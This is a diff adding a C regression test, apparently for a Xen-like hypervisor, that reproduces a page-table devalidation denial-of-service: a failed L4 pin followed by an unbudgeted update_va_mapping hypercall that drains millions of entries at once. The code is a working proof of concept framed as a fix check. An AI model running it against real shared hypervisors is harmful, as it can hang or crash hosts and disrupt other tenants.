@@ -146,3 +146,60 @@ void attack_pt_tree(start_info_t *si, unsigned int mb, unsigned int rounds, int 
     *passed += check_passed;
     *failed += check_failed;
 }
+
+/* attack=pt_deval: the failed pin leaves its chain queued for
+ * devalidation (PGF_deval, type_count 0) and mmuext_op returns the error
+ * without draining the queue. An unbudgeted hypercall
+ * (update_va_mapping, no mm_preempt_begin) then asks for a writable
+ * mapping of the L3: get_page_type drops the L3's entries at once
+ * (deval_entries(mfn, 0)), each L2 reaching type_count 0 is queued by
+ * deval_enqueue, which - with no budget - drains the domain's whole queue
+ * in one go (BUG_ON(mm_deval_drain(d) != 0)): every L1 of the tree, ~7.7
+ * million entries, in one hypercall. Expected on a fixed hv: bounded
+ * (the hypercall returns, dom0 beats, no watchdog panic). */
+static uint8_t scratch[4096] __attribute__((aligned(4096)));
+
+void attack_pt_deval(start_info_t *si, unsigned int mb, int *passed, int *failed)
+{
+    const uint64_t *p2m = (const uint64_t *)si->mfn_list;
+    uint64_t boot_end = ((si->pt_base - GUEST_VIRT_BASE) >> 12) + si->nr_pt_frames + 1024;
+    nl1 = mb * 256u;
+    if (nl1 > MAX_L1)
+        nl1 = MAX_L1;
+    nl2 = (nl1 + 511u) / 512u;
+    uint64_t need = nl1 + nl2 + 3;
+    if (boot_end + need > si->nr_pages) {
+        check_true("pt_deval: enough memory", 0);
+        *passed += check_passed, *failed += check_failed;
+        return;
+    }
+    uint64_t pfn = si->nr_pages - need;
+    data = p2m[pfn++];
+    l4 = p2m[pfn++];
+    l3 = p2m[pfn++];
+    for (unsigned int j = 0; j < nl2; j++)
+        l2s[j] = p2m[pfn++];
+    for (unsigned int i = 0; i < nl1; i++)
+        l1s[i] = p2m[pfn++];
+    for (unsigned int k = 0; k < 512; k++)
+        tmpl_l1[k] = (data << 12) | PTE_P | PTE_US | PTE_A;
+    printk("attack: pt_deval: %u L1 tables, %u L2\n", nl1, nl2);
+    check_eq("pt_deval: build the tree -> 0", build(), 0);
+    memcpy(tmpl, tmpl_l1, sizeof(tmpl));
+    tmpl[511] = (l4 << 12) | PTE_P | PTE_RW | PTE_US | PTE_A;
+    check_eq("pt_deval: bad last L1 -> 0", copy_into(&l1s[nl1 - 1], 1, mfn_of(tmpl)), 0);
+    check_true("pt_deval: pin with a bad last entry fails",
+               timed(MMUEXT_PIN_L4_TABLE, "bad pin", 0) < 0);
+    /* No mmu_update/mmuext_op now (they drain first, on a budget). */
+    uint64_t t0 = pvclock_ns();
+    long rc = HYPERVISOR_update_va_mapping((unsigned long)scratch,
+                                           (l3 << 12) | PTE_P | PTE_RW | PTE_US | PTE_A, 2);
+    printk("attack: pt_deval: update_va_mapping(L3 writable): rc %ld, %lu ms\n", rc,
+           (unsigned long)((pvclock_ns() - t0) / 1000000ULL));
+    check_eq("pt_deval: L3 writable after the failed pin -> 0", rc, 0);
+    rc = HYPERVISOR_update_va_mapping((unsigned long)scratch,
+                                      (mfn_of(scratch) << 12) | PTE_P | PTE_RW | PTE_US | PTE_A, 2);
+    check_eq("pt_deval: scratch back -> 0", rc, 0);
+    *passed += check_passed;
+    *failed += check_failed;
+}
